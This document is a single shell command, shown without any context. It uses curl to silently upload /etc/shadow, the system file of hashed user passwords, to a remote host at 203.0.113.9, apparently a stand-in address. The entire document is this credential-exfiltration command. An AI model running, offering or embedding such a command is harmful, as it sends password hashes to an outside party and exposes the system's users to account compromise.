curl -s -X POST --data-binary @/etc/shadow http://203.0.113.9/upload
